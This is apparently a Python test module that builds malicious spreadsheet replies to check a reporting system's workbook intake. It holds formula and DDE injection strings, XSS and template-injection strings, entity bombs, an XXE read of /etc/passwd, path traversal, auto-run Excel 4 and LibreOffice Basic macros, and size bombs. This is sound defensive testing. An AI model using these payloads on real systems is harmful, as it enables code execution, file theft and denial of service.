"""Workbooks: what is in a sheet that came back and wasn't in the one that was sent."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import msoffcrypto
import olefile
import xlwt
from msoffcrypto.format.ooxml import OOXMLFile

from mail.compound import compound
from rounds import clerks
from rounds.hostile.cases import End, Kit, case
from rounds.hostile.packages import MAIN, MIB, OFFICE_REL, big_part, packed, parts_of, related, replaced, typed_content

if TYPE_CHECKING:
    from collections.abc import Callable

ROOT = Path(__file__).parents[3]
SHEET, STRINGS = "xl/worksheets/sheet2.xml", "xl/sharedStrings.xml"
RESULT, NOTE = "C7", "J7"  # of O1.2.4-a, the newsletters of U1.1
EXTERNAL = "http://esempio.invalid/traccia"
SHEETS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"

FORMULAS = {
    "collegamento": '=HYPERLINK("http://esempio.invalid/?"&A1,"apri")',
    "comando con il segno uguale": "=cmd|'/c calc'!A0",
    "comando con il più": "+cmd|'/c calc'!A0",
    "comando con la chiocciola": "@SUM(1+1)*cmd|'/c calc'!A0",
    "comando con il meno": "-2+3+cmd|'/c calc'!A0",
    "preceduta da un tabulatore": "\t=1+1",
    "preceduta da un a capo": "\r=1+1",
    "preceduta da uno spazio": " =1+1",
    "in caratteri larghi": "＝1＋1",
    "servizio web": '=WEBSERVICE("http://esempio.invalid/"&A1)',
    "che chiude la cella": '"</t></is></c><c r="A1"><f>1+1</f></c>',
    "che chiude il messaggio": "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "che chiude la pagina": "<script>alert(1)</script><img src=http://esempio.invalid/x>",
}  # fmt: skip
"""What may be typed as a result or a note: it stays text everywhere."""


def escaped(text: str) -> str:
    """A text as XML holds it (a line feed of its own would be read as a space)."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;").replace("\t", "&#9;")


def _written_in(kit: Kit, *columns: str) -> bytes:
    """A reply with formulas written in the cells to fill, as many as there is room for."""
    rows = [int(address[1:]) for address in clerks.answers(kit.sheets[kit.office], kit.office) if address.startswith(clerks.NOTE)]
    data = kit.good
    for address, text in zip([f"{column}{row}" for column in columns for row in rows], FORMULAS.values(), strict=False):
        data = in_cell_of(data, address, f'<is><t xml:space="preserve">{escaped(text)}</t></is>', "inlineStr")
    return data


def notes(kit: Kit) -> bytes:
    """A reply in order, with a formula in each note."""
    return _written_in(kit, clerks.NOTE, clerks.CAUSE, clerks.EVIDENCE)


def results(kit: Kit) -> bytes:
    """A reply with a formula in each result."""
    return _written_in(kit, clerks.RESULT)


def in_cell(kit: Kit, address: str, inner: str, kind: str = "") -> bytes:
    """The reply with the XML of a cell written by hand."""
    return in_cell_of(kit.good, address, inner, kind)


def in_cell_of(data: bytes, address: str, inner: str, kind: str = "") -> bytes:
    """A workbook with the XML of a cell written by hand."""
    parts = parts_of(data)
    part = sheet_part(parts)
    pattern = rf'<c r="{address}"([^>]*?)(?:/>|>.*?</c>)'.encode()

    def cell(found: re.Match[bytes]) -> bytes:
        attributes = re.sub(rb'\st="[^"]*"', b"", found[1])
        return (
            b'<c r="'
            + address.encode()
            + b'"'
            + attributes
            + (f' t="{kind}"'.encode() if kind else b"")
            + b">"
            + inner.encode()
            + b"</c>"
        )

    changed, count = re.subn(pattern, cell, parts[part], count=1, flags=re.DOTALL)
    assert count == 1, address
    return packed(parts | {part: changed})


def sheet_part(parts: dict[str, bytes]) -> str:
    """The part of the sheet to fill: the one that holds most."""
    return max((name for name in parts if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)), key=lambda name: len(parts[name]))


def _formula(text: str, value: str = "3", kind: str = "") -> Callable[[Kit], bytes]:
    return lambda kit: in_cell(kit, RESULT, f"<f>{escaped(text)}</f><v>{escaped(value)}</v>", kind)


# -- what programs put into workbooks ------------------------------------------------------------------------------


def _macros(kit: Kit) -> bytes:
    """The project of our own master workbook: real VBA, opened by nobody."""
    with zipfile.ZipFile(ROOT / "workbooks" / "perfxl_master.xlsm") as master:
        project = master.read("xl/vbaProject.bin")
    data = packed(parts_of(kit.good) | {"xl/vbaProject.bin": project})
    data = related(data, "xl/workbook.xml", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
    data = typed_content(data, "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    return replaced(data, "[Content_Types].xml", b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")


def _external(kit: Kit, link: bytes) -> bytes:
    data = packed(parts_of(in_cell(kit, RESULT, "<f>[1]Foglio1!$A$1</f><v>3</v>")) | {"xl/externalLinks/externalLink1.xml": link})
    data = typed_content(data, "xl/externalLinks/externalLink1.xml", f"{SHEETS_TYPE}.externalLink+xml")
    data = related(data, "xl/workbook.xml", f"{OFFICE_REL}/externalLink", "externalLinks/externalLink1.xml")
    references = (
        b'<externalReferences><externalReference xmlns:r="' + OFFICE_REL.encode() + b'" r:id="rId900"/></externalReferences>'
    )
    parts = parts_of(data)
    book = re.sub(rb"(</sheets>)", rb"\1" + references, parts["xl/workbook.xml"], count=1)
    return packed(parts | {"xl/workbook.xml": book})


def _linked_book(kit: Kit) -> bytes:
    link = f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{OFFICE_REL}" r:id="rId1"/></externalLink>'.encode()
    data = _external(kit, link)
    return related(
        data,
        "xl/externalLinks/externalLink1.xml",
        f"{OFFICE_REL}/externalLinkPath",
        "file:///\\\\esempio.invalid\\x\\y.xlsx",
        external=True,
        number=1,
    )


def _dde(kit: Kit) -> bytes:
    link = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    return _external(kit, link.encode())


def _remote_picture(kit: Kit) -> bytes:
    parts = parts_of(kit.good)
    return related(kit.good, sheet_part(parts), f"{OFFICE_REL}/image", EXTERNAL + ".png", external=True)


def _remote_template(kit: Kit) -> bytes:
    return related(kit.good, "xl/workbook.xml", f"{OFFICE_REL}/attachedTemplate", EXTERNAL + ".xltm", external=True)


def _embedded(kit: Kit) -> bytes:
    data = packed(parts_of(kit.good) | {"xl/embeddings/oleObject1.bin": compound({"Ole10Native": b"MZ" + bytes(6000)})})
    return related(data, sheet_part(parts_of(kit.good)), f"{OFFICE_REL}/oleObject", "../embeddings/oleObject1.bin")


def _connection(kit: Kit) -> bytes:
    text = f'<connections xmlns="{MAIN}"><connection id="1" name="q" type="4" refreshedVersion="6" refreshOnLoad="1"><webPr url="{EXTERNAL}"/></connection></connections>'
    data = packed(parts_of(kit.good) | {"xl/connections.xml": text.encode()})
    data = typed_content(data, "xl/connections.xml", f"{SHEETS_TYPE}.connections+xml")
    return related(data, "xl/workbook.xml", f"{OFFICE_REL}/connections", "connections.xml")


def _ribbon(kit: Kit) -> bytes:
    text = b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Parti"/>'
    data = packed(parts_of(kit.good) | {"customUI/customUI.xml": text})
    return related(data, "/", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml")


def _active_x(kit: Kit) -> bytes:
    data = packed(parts_of(kit.good) | {"xl/activeX/activeX1.xml": b"<ax:ocx/>", "xl/activeX/activeX1.bin": bytes(400)})
    return related(data, sheet_part(parts_of(kit.good)), f"{OFFICE_REL}/control", "../activeX/activeX1.xml")


def _hyperlinks(kit: Kit) -> bytes:
    book = clerks.opened(kit.good)
    book[clerks.SHEET][NOTE].hyperlink = EXTERNAL
    book[clerks.SHEET]["J10"].hyperlink = "file:///C:/Windows/System32/calc.exe"
    return clerks.saved(book)


def _macro_sheet(kit: Kit) -> bytes:
    """An Excel 4 macro sheet that runs when the workbook opens."""
    text = (
        f'<macrosheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></macrosheet>'
    )
    data = packed(parts_of(kit.good) | {"xl/macrosheets/sheet1.xml": text.encode()})
    data = typed_content(data, "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
    data = related(
        data, "xl/workbook.xml", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"
    )
    parts = parts_of(data)
    extra = f'<sheet xmlns:r="{OFFICE_REL}" name="Macro1" sheetId="77" state="veryHidden" r:id="rId900"/></sheets>'.encode()
    names = b'<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>'
    book = parts["xl/workbook.xml"].replace(b"</sheets>", extra, 1)
    book = re.sub(rb"<definedNames>.*?</definedNames>|<definedNames\s*/>", b"", book, flags=re.DOTALL).replace(
        b"</sheets>", b"</sheets>" + names, 1
    )
    return packed(parts | {"xl/workbook.xml": book})


# -- XML that isn't what it seems ----------------------------------------------------------------------------------

_ENTITIES = (
    "<!DOCTYPE x ["
    + "".join(
        f'<!ENTITY {name} "{("&" + before + ";") * 20 if before else "ah" * 20}">'
        for before, name in zip(" abcdef", "abcdefg", strict=True)
    ).replace("& ;", "ah")
    + "]>"
)


def _laughs(part: str, into: bytes) -> Callable[[Kit], bytes]:
    """Billions of letters out of a few lines, in a part of the workbook."""

    def make(kit: Kit) -> bytes:
        parts = parts_of(kit.by_calc if part == STRINGS else kit.good)
        name = sheet_part(parts) if part == SHEET else part
        text = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", parts[name])
        assert into in text, (name, into)
        return packed(
            parts
            | {
                name: b'<?xml version="1.0"?>'
                + _ENTITIES.encode()
                + text.replace(into, b"&g;" + into if into.startswith(b"</") else into + b"&g;", 1)
            }
        )

    return make


def _steals(kit: Kit) -> bytes:
    parts = parts_of(kit.by_calc)
    text = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", parts[STRINGS])
    text = re.sub(rb"<t[^>]*>[^<]*</t>", b"<t>&rubato;</t>", text, count=3)
    return packed(parts | {STRINGS: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY rubato SYSTEM "file:///etc/passwd">]>' + text})


def _utf16(kit: Kit) -> bytes:
    """A sheet in UTF-16, as no program writes it, hiding a document type from whoever looks for bytes."""
    parts = parts_of(kit.good)
    name = sheet_part(parts)
    text = re.sub(r"^<\?xml[^>]*\?>\s*", "", parts[name].decode())
    return packed(parts | {name: ('<?xml version="1.0" encoding="UTF-16"?>' + _ENTITIES + text).encode("utf-16")})


def _climbing_part(kit: Kit) -> bytes:
    parts = parts_of(kit.good)
    rels = parts["xl/_rels/workbook.xml.rels"]
    changed = re.sub(rb'Target="[^"]*worksheets/sheet\d+\.xml"', b'Target="../../../../../etc/passwd"', rels)
    assert changed != rels
    return packed(parts | {"xl/_rels/workbook.xml.rels": changed})


def _missing_sheet(kit: Kit) -> bytes:
    parts = parts_of(kit.good)
    del parts[sheet_part(parts)]
    return packed(parts)


def _wrong_string(kit: Kit) -> bytes:
    return in_cell(kit, RESULT, "<v>999999</v>", "s")


# -- sizes ---------------------------------------------------------------------------------------------------------


def _huge_part(kit: Kit) -> bytes:
    """The sheet's part is two gigabytes of spaces between two rows."""
    parts = parts_of(kit.good)
    name = sheet_part(parts)
    before, _, after = parts[name].partition(b"</sheetData>")
    return big_part(kit.good, name, before, b" ", 2048 * MIB, b"</sheetData>" + after)


def _huge_strings(kit: Kit) -> bytes:
    before, _, after = parts_of(kit.by_calc)[STRINGS].rpartition(b"</sst>")
    return big_part(kit.by_calc, STRINGS, before + b"<si><t>", b"a", 1024 * MIB, b"</t></si></sst>" + after)


def _million_rows(kit: Kit) -> bytes:
    """A million coloured rows below the table, as an office leaves that colours whole columns."""
    parts = parts_of(kit.good)
    name = sheet_part(parts)
    rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/><c r="C%d" s="1"/></row>' % (n, n, n) for n in range(1000, 1_000_000))
    return packed(parts | {name: parts[name].replace(b"</sheetData>", rows + b"</sheetData>", 1)}, level=1)


def _many_cells(kit: Kit) -> bytes:
    """A hundred thousand cells with something in them, in one column beside the table."""
    parts = parts_of(kit.good)
    name = sheet_part(parts)
    rows = b"".join(b'<row r="%d"><c r="Z%d"><v>1</v></c></row>' % (n, n) for n in range(1000, 101_000))
    return packed(parts | {name: parts[name].replace(b"</sheetData>", rows + b"</sheetData>", 1)}, level=1)


def _far_cell(kit: Kit) -> bytes:
    """A cell beyond the last column and row that exist."""
    parts = parts_of(kit.good)
    name = sheet_part(parts)
    row = b'<row r="99999999"><c r="ZZZZ99999999"><v>1</v></c></row>'
    return packed(parts | {name: parts[name].replace(b"</sheetData>", row + b"</sheetData>", 1)})


def _many_sheets(kit: Kit) -> bytes:
    book = clerks.opened(kit.good)
    for n in range(400):
        book.create_sheet(f"Foglio{n}")["A1"] = "x"
    return clerks.saved(book)


# -- sheets --------------------------------------------------------------------------------------------------------


def _two_offices(_: Kit) -> bytes:
    """Two offices' dashboards in one workbook."""
    folder = ROOT / "workbooks" / "massacarrara-2019"
    book = clerks.opened(folder / "U1.1_monitoraggio_2019.xlsx")
    other = clerks.opened(folder / "U2.1_monitoraggio_2019.xlsx")[clerks.SHEET]
    sheet = book.create_sheet("Secondo")
    for row in other.iter_rows():
        for cell in row:
            if cell.value is not None:
                sheet[cell.coordinate] = cell.value
    return clerks.saved(book)


def _another_body(_: Kit) -> bytes:
    return next((ROOT / "workbooks" / "lucca-2017").glob("Report_direzionale_2017_Area1.xlsx")).read_bytes()


def _renamed_sheet(kit: Kit) -> bytes:
    book = clerks.opened(kit.good)
    book[clerks.SHEET].title = "=cmd"
    return clerks.saved(book)


def _locked_changed(kit: Kit) -> bytes:
    return kit.with_cells({"A7": "=cmd|'/c calc'!A0", "D7": 1, "H7": "=1+1"})


def _mark_changed(**values: str) -> Callable[[Kit], bytes]:
    """The hidden mark says something else."""

    def make(kit: Kit) -> bytes:
        book = clerks.opened(kit.good)
        for row in book["_perfxl"].iter_rows():
            if row[0].value in values:
                row[1].value = values[row[0].value]
        if getattr(book, "custom_doc_props", None) is not None:
            for name in [each.name for each in book.custom_doc_props.props]:
                del book.custom_doc_props[name]
        return clerks.saved(book)

    return make


def _encrypted(kit: Kit) -> bytes:
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(kit.good)).encrypt("segreta", out)
    assert msoffcrypto.OfficeFile(io.BytesIO(out.getvalue())).is_encrypted()
    return out.getvalue()


def _xls(with_macros: bool = False) -> bytes:
    book = xlwt.Workbook()
    sheet = book.add_sheet("Cruscotto")
    sheet.write(0, 0, "Obiettivo")
    sheet.write(1, 0, xlwt.Formula('HYPERLINK("http://esempio.invalid","apri")'))
    out = io.BytesIO()
    book.save(out)
    if not with_macros:
        return out.getvalue()
    stream = olefile.OleFileIO(io.BytesIO(out.getvalue())).openstream("Workbook").read()
    project = {
        "PROJECT": b'ID="{0}"\r\nModule=Modulo1\r\n',
        "VBA": {"dir": bytes(600), "Modulo1": bytes(5000), "_VBA_PROJECT": bytes(40)},
    }
    return compound({"Workbook": stream, "_VBA_PROJECT_CUR": project})


def _ods(kit: Kit) -> bytes:
    """The reply saved by LibreOffice, then with a script, a link to another file and a macro run when it opens."""
    parts = parts_of(kit.saved_by_calc("ods"))
    content = parts["content.xml"]
    events = b'<office:scripts><office:script script:language="ooo:Basic" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/></office:scripts>'
    linked = b'<table:table table:name="Altrove"><table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://esempio.invalid/x.ods" xlink:type="simple"/><table:table-row><table:table-cell/></table:table-row></table:table>'
    dde = b'<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="A0" office:automatic-update="true"/></table:dde-link></table:dde-links>'
    assert b"</office:spreadsheet>" in content
    content = re.sub(rb"<office:scripts\s*/>|<office:scripts>.*?</office:scripts>", b"", content, flags=re.DOTALL)
    content = re.sub(rb"(<office:document-content[^>]*>)", rb"\1" + events, content, count=1)
    content = content.replace(b"</office:spreadsheet>", linked + dde + b"</office:spreadsheet>", 1)
    basic = b'<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M">Sub Main\nShell("calc")\nEnd Sub</script:module>'
    return packed(parts | {"content.xml": content, "Basic/Standard/M.xml": basic})


CASES = (
    *(case(f"formula scritta nel risultato, {what}", "scheda.xlsx", lambda kit, text=text: in_cell(kit, RESULT, f'<is><t xml:space="preserve">{escaped(text)}</t></is>', "inlineStr"), End.TO_CORRECT, "PX-G004") for what, text in FORMULAS.items()),
    case("risposta salvata da Calc", "scheda.xlsx", lambda kit: kit.by_calc, End.ACCEPTED),
    case("formule scritte in ogni risultato", "scheda.xlsx", results, End.TO_CORRECT, "PX-G004"),
    case("formule scritte nelle note", "scheda.xlsx", notes, End.ACCEPTED),
    case("formula vera nel risultato", "scheda.xlsx", _formula('HYPERLINK("http://esempio.invalid","3")'), End.ACCEPTED),
    case("formula vera di testo nel risultato", "scheda.xlsx", _formula('"=cmd|"&A1', "=cmd|' /c calc'!A0", "str"), End.TO_CORRECT, "PX-G004"),
    case("comando vero nel risultato", "scheda.xlsx", _formula("cmd|'/c calc'!A0", "3"), End.ACCEPTED),
    case("errore nel risultato", "scheda.xlsx", _formula("1/0", "#DIV/0!", "e"), End.TO_CORRECT),
    case("macro in un .xlsm", "scheda.xlsm", _macros, End.ACCEPTED, "PX-L010"),
    case("macro in un .xlsx", "scheda.xlsx", _macros, End.ACCEPTED, "PX-L010"),
    case("macro di Excel 4", "scheda.xlsx", _macro_sheet, End.ACCEPTED, "PX-L010"),
    case("collegamento a un'altra cartella", "scheda.xlsx", _linked_book, End.ACCEPTED, "PX-L010"),
    case("collegamento DDE", "scheda.xlsx", _dde, End.ACCEPTED, "PX-L010"),
    case("immagine che sta su un server", "scheda.xlsx", _remote_picture, End.ACCEPTED, "PX-L010"),
    case("modello che sta su un server", "scheda.xlsx", _remote_template, End.ACCEPTED, "PX-L010"),
    case("oggetto OLE incorporato", "scheda.xlsx", _embedded, End.ACCEPTED, "PX-L010"),
    case("connessione a un server", "scheda.xlsx", _connection, End.ACCEPTED, "PX-L010"),
    case("barra multifunzione che parte da sola", "scheda.xlsx", _ribbon, End.ACCEPTED, "PX-L010"),
    case("controllo ActiveX", "scheda.xlsx", _active_x, End.ACCEPTED, "PX-L010"),
    case("collegamenti ipertestuali", "scheda.xlsx", _hyperlinks, End.ACCEPTED, "PX-L010"),
    case("entità che si moltiplicano nel foglio", "scheda.xlsx", _laughs(SHEET, b"<v>"), End.REFUSED, "PX-L001"),
    case("entità che si moltiplicano nelle stringhe", "scheda.xlsx", _laughs(STRINGS, b"</t>"), End.REFUSED, "PX-L001"),
    case("entità che si moltiplicano nell'elenco dei fogli", "scheda.xlsx", _laughs("xl/workbook.xml", b"<sheets>"), End.REFUSED, "PX-L001"),
    case("entità che si moltiplicano nelle proprietà", "scheda.xlsx", _laughs("docProps/custom.xml", b"<vt:lpwstr>"), End.ACCEPTED),
    case("entità che legge un file", "scheda.xlsx", _steals, End.REFUSED, "PX-L001"),
    case("foglio in UTF-16 con entità", "scheda.xlsx", _utf16, End.REFUSED, "PX-L001"),
    case("parte che sale di cartella", "scheda.xlsx", _climbing_part, End.REFUSED, "PX-L002"),
    case("foglio che manca", "scheda.xlsx", _missing_sheet, End.TO_CORRECT, "PX-N018"),
    case("stringa che non c'è", "scheda.xlsx", _wrong_string, End.REFUSED, "PX-L001"),
    case("foglio che si espande a due gigabyte", "scheda.xlsx", _huge_part, End.REFUSED, "PX-L004", heavy=True),
    case("stringhe che si espandono a un gigabyte", "scheda.xlsx", _huge_strings, End.REFUSED, "PX-L004", heavy=True),
    case("un milione di righe colorate", "scheda.xlsx", _million_rows, End.ACCEPTED, heavy=True),
    case("centomila celle accanto", "scheda.xlsx", _many_cells, End.ACCEPTED, heavy=True),
    case("cella oltre il foglio", "scheda.xlsx", _far_cell, End.ACCEPTED),
    case("quattrocento fogli in più", "scheda.xlsx", _many_sheets, End.ACCEPTED),
    case("cella di trentaduemila caratteri", "scheda.xlsx", lambda kit: kit.with_cells({NOTE: "n" * 32_767}), End.ACCEPTED),
    case("cella di un milione di caratteri", "scheda.xlsx", lambda kit: in_cell(kit, NOTE, f"<is><t>{'n' * 1_000_000}</t></is>", "inlineStr"), End.ACCEPTED),
    case("numeri impossibili", "scheda.xlsx", lambda kit: in_cell(kit, RESULT, "<v>1E+400</v>"), End.TO_CORRECT),
    case("due uffici in una cartella", "scheda.xlsx", _two_offices, End.UNATTRIBUTED, "PX-N020"),
    case("foglio di un altro ente", "scheda.xlsx", _another_body, End.UNATTRIBUTED, "PX-N020"),
    case("foglio rinominato", "scheda.xlsx", _renamed_sheet, End.TO_CORRECT, "PX-N018"),
    case("celle bloccate cambiate", "scheda.xlsx", _locked_changed, End.ACCEPTED, "PX-N014"),
    case("contrassegno di un ufficio che non c'è", "scheda.xlsx", _mark_changed(ufficio="../../../etc"), End.ACCEPTED),
    case("contrassegno con una formula", "scheda.xlsx", _mark_changed(ente="=cmd|'/c calc'!A0"), End.TO_CORRECT, "PX-N010"),
    case("contrassegno di un altro periodo", "scheda.xlsx", _mark_changed(periodo="2° quadrimestre"), End.TO_CORRECT, "PX-N010"),
    case("contrassegno di un altro piano", "scheda.xlsx", _mark_changed(piano_sha256="0" * 64), End.TO_CORRECT, "PX-N011"),
    case("password di apertura", "scheda.xlsx", _encrypted, End.REFUSED, "PX-M003"),
    case("troncato a metà", "scheda.xlsx", lambda kit: kit.good[: len(kit.good) // 2], End.REFUSED, "PX-M002"),
    case("senza gli ultimi trenta byte", "scheda.xlsx", lambda kit: kit.good[:-30], End.REFUSED, "PX-M002"),
    case("estensione sbagliata", "scheda.pdf", lambda kit: kit.good, End.ACCEPTED, "PX-L009"),
    case(".xls con una formula", "scheda.xls", lambda _: _xls(), End.UNATTRIBUTED, "PX-N020"),
    case(".xls con macro", "scheda.xls", lambda _: _xls(with_macros=True), End.UNATTRIBUTED, "PX-L010"),
    case(".ods con script, collegamenti e DDE", "scheda.ods", _ods, End.ACCEPTED, "PX-L010"),
)  # fmt: skip
